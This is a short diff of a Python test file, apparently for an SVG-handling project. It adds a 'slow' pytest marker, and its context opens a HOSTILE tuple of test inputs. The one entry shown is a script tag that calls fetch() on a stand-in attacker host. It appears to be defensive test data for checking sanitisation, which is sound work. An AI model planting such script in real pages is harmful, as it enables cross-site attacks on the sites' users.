@@ -24,6 +24,8 @@ from dossier.walk import stamp_of
 from tests.conftest import HERE, build
 from tests.content import text
 
+pytestmark = pytest.mark.slow
+
 NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
 HOSTILE = (
     "<script>fetch('https://evil.example/a')</script>",
